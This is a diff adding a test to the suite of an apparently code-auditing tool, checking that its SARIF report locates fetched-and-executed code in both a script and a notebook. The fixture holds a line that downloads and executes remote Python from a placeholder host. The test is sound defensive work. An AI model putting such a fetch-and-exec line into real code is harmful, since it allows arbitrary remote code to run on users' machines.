@@ -12,6 +12,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from weighbridge import api
 from weighbridge.core.check import Audit, Domain
 from weighbridge.core.evidence import AttackPath
 from weighbridge.core.fact import Egress
@@ -21,6 +22,7 @@ from weighbridge.core.tree import Held
 from weighbridge.engine.audit import run
 from weighbridge.engine.examine import examine
 from weighbridge.engine.ruleset import load
+from weighbridge.reports.sarif import log
 
 SHA = "0123456789abcdef0123456789abcdef01234567"
 B64 = base64.b64encode(b"import os\nos.system('echo harmless')\n").decode()
@@ -425,6 +427,29 @@ def test_a_repository_is_audited_as_one(tmp_path: Path) -> None:
     blocks = {f.check for f in alone.findings if f.action is Action.BLOCK}
     assert blocks == {"source-hides-code"}
     assert any(g.controls == ("training-code",) for g in alone.gaps)
+
+
+def test_sarif_shows_the_way_line_by_line(tmp_path: Path) -> None:
+    """In a script by regions, in a notebook by cells and lines within them."""
+    body = "import requests\n\nexec(requests.get('https://example.com/x.py').text)\n"
+    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "source": body}
+    book = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}
+    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'x'\n")
+    (tmp_path / "train.py").write_text(body)
+    (tmp_path / "train.ipynb").write_text(json.dumps(book))
+    results = log(api.audit(tmp_path))["runs"][0]["results"]
+    blocks = [r for r in results if r["ruleId"] == "fetched-code" and "codeFlows" in r]
+    lines: dict[str, list[int]] = {}
+    for result in blocks:
+        for step in result["codeFlows"][0]["threadFlows"][0]["locations"]:
+            place = step["location"].get("physicalLocation")
+            if place is None:
+                continue
+            inner = step["location"].get("logicalLocations", [{}])[0].get("properties", {})
+            line = place.get("region", {}).get("startLine", inner.get("line"))
+            lines.setdefault(place["artifactLocation"]["uri"], []).append(line)
+    assert set(lines) == {"train.py", "train.ipynb"}
+    assert all(3 in found and None not in found for found in lines.values())
 
 
 def test_a_model_is_no_repository(tmp_path: Path) -> None:
